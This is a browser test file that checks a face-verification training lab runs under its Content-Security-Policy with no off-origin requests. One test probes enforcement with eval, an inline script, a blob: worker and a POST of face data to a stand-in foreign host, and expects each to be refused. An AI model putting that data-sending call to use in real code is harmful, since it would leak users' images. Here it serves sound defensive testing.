/**
 * The locked-down page: the built app runs under its Content-Security-Policy, in the page and in its
 * workers, on WebGPU, WebGL and wasm; a micro run trains, a pair is verified and a model is exported without one
 * request leaving the page's origin and without one CSP violation; and the policy really is enforced (eval, an
 * inline script, a foreign fetch and a blob: worker are refused).
 */
import sharp from 'sharp';
import type { Request } from 'playwright-core';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { BUILTIN_DATA, createSynthDataset } from '../../src/core/synth/index.ts';
import { saveAndExportModel, showView, withLabBrowser } from './browser.ts';
import { dropFile } from './drop.ts';
import { labUrl } from './micro.ts';

interface Violation {
  directive: string;
  blocked: string;
  source: string;
}

/** Two PNGs of built-in test identity 0 at the micro model's input size. */
async function samePair(): Promise<[Buffer, Buffer]> {
  const set = createSynthDataset({ ...BUILTIN_DATA.test, size: 32 });
  const items = Array.from({ length: set.count }, (_, i) => i).filter((i) => set.itemIdentity(i) === 0);
  const png = (item: number) =>
    sharp(Buffer.from(set.render(item)), { raw: { width: 32, height: 32, channels: 3 } })
      .png()
      .toBuffer();
  return [await png(items[0]), await png(items[1])];
}

describe('the lab under its Content-Security-Policy', () => {
  const browser = withLabBrowser();
  const origin = new URL(inject('baseUrl')).origin;
  /** Every request the browser context made (page and workers), and those that left the origin. */
  const requests: string[] = [];
  const foreign = () => requests.filter((url) => !url.startsWith('data:') && new URL(url).origin !== origin);
  const violations = () => browser.page.evaluate(() => (window as unknown as { cspViolations: Violation[] }).cspViolations.splice(0));
  const cspConsole = () => browser.consoleLines.filter((line) => /Content Security Policy|Refused to/i.test(line));
  const log = () => browser.consoleLines.join('\n');

  const start = async () => {
    const { page, context } = browser;
    context.on('request', (request: Request) => requests.push(request.url()));
    // Violations are events on the document; recorded from page start, on every page this context opens.
    await page.addInitScript(() => {
      const seen: Violation[] = [];
      (window as unknown as { cspViolations: Violation[] }).cspViolations = seen;
      document.addEventListener('securitypolicyviolation', (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI, source: e.sourceFile }));
    });
    // Console messages of the workers too, where a worker's own violations are reported.
    page.on('worker', (worker) => worker.on('console', (msg) => browser.consoleLines.push(`[worker ${msg.type()}] ${msg.text()}`)));
  };

  beforeAll(start);

  it('trains a micro run on WebGPU, verifies a pair and exports a model with no request off the origin and no violation', async () => {
    const { page } = browser;
    const response = await page.goto(labUrl());
    // The policy arrives twice: as a header (which the workers get too) and as the first tag of <head>.
    const header = (await response?.allHeaders())?.['content-security-policy'] ?? '';
    expect(header).toMatch(/script-src 'self' 'wasm-unsafe-eval'(;|$)/);
    expect(header).toContain("connect-src 'self'");
    const meta = await page.locator('head > meta[http-equiv="Content-Security-Policy"]').first().getAttribute('content');
    expect(meta).toContain("connect-src 'self'");
    // No eval and no inline script: script-src is the origin and wasm compilation only.
    expect(/script-src ([^;]*)/.exec(meta ?? '')?.[1]).toBe("'self' 'wasm-unsafe-eval'");
    await page.locator('[role=status][data-backend="webgpu"]').waitFor({ timeout: 120_000 });
    const workerScript = requests.find((url) => /\/assets\/lab\.worker-[\w-]+\.js$/.test(url));
    expect(workerScript, requests.join('\n')).toBeDefined();
    const workerResponse = await page.request.get(workerScript!);
    expect(workerResponse.headers()['content-security-policy']).toBe(header);

    await page.getByRole('button', { name: 'Train', exact: true }).click();
    await page.getByRole('status', { name: 'Last run' }).filter({ hasText: 'completed' }).waitFor({ timeout: 240_000 });

    await showView(page, 'verify');
    const panel = page.locator('section.verify-panel');
    const verdict = panel.getByRole('status', { name: 'Verdict' });
    const [a, b] = await samePair();
    await dropFile(page, panel.getByRole('region', { name: 'Image A' }), 'a.png', a, 'image/png');
    await dropFile(page, panel.getByRole('region', { name: 'Image B' }), 'b.png', b, 'image/png');
    await expect.poll(() => verdict.getAttribute('data-verdict'), { timeout: 120_000 }).toMatch(/^(same|different)$/);

    const download = await saveAndExportModel(page);
    expect(download.suggestedFilename()).toMatch(/\.zip$/);
    expect(await download.failure()).toBeNull();

    expect(foreign(), 'requests that left the origin').toEqual([]);
    expect(await violations(), log()).toEqual([]);
    expect(cspConsole(), log()).toEqual([]);
  });

  it('trains on wasm and WebGL in the worker under the same policy', async () => {
    const { page } = browser;
    for (const backend of ['wasm', 'webgl']) {
      const url = new URL(`src/ui/bench/bench.html?backend=${backend}&model=tiny&steps=2&batch=8&size=32&data=builtin&width=4`, inject('baseUrl'));
      const response = await page.goto(url.toString());
      expect((await response?.allHeaders())?.['content-security-policy']).toContain("'wasm-unsafe-eval'");
      const result = page.locator('#result[data-done]');
      await result.waitFor({ timeout: 180_000 });
      const parsed = JSON.parse((await result.textContent()) ?? '{}') as Record<string, unknown>;
      expect(parsed.error, `${backend}: ${log()}`).toBeUndefined();
      expect(parsed.backend).toBe(backend);
      expect(await violations(), log()).toEqual([]);
    }
    expect(foreign(), 'requests that left the origin').toEqual([]);
    expect(cspConsole(), log()).toEqual([]);
  });

  it('enforces the policy: eval, inline script, a foreign fetch and a blob: worker are refused and reported', async () => {
    const { page } = browser;
    // Code evaluated through DevTools is exempt from the page's eval rule, so eval is probed from a script the
    // page loads from its own origin (served by the test), as the app's own code would run it.
    await page.route('**/csp-probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: "window.evalProbe = (() => { try { return String(eval('1 + 1')); } catch (err) { return err.name; } })();",
      }),
    );
    await page.goto(inject('baseUrl'));
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as { inlineRan?: boolean; evalProbe?: string };
      const probe = document.createElement('script');
      probe.src = '/csp-probe.js';
      await new Promise((resolve, reject) => {
        probe.onload = resolve;
        probe.onerror = reject;
        document.head.append(probe);
      });
      const script = document.createElement('script');
      script.textContent = 'window.inlineRan = true';
      document.head.append(script);
      const fetchResult = await fetch('http://192.0.2.1/upload', { method: 'POST', body: 'a face' }).then(
        () => 'sent',
        () => 'refused',
      );
      const blobWorker = await new Promise<string>((resolve) => {
        try {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
          worker.onmessage = () => resolve('ran');
          worker.onerror = () => resolve('refused');
          setTimeout(() => resolve('refused'), 2000);
        } catch {
          resolve('refused');
        }
      });
      return { evalResult: w.evalProbe, inlineRan: w.inlineRan === true, fetchResult, blobWorker };
    });
    expect(outcome).toEqual({ evalResult: 'EvalError', inlineRan: false, fetchResult: 'refused', blobWorker: 'refused' });
    const reported = new Set((await violations()).map((v) => v.directive));
    expect([...reported].sort()).toEqual(expect.arrayContaining(['connect-src', 'script-src', 'script-src-elem', 'worker-src']));
  });
});
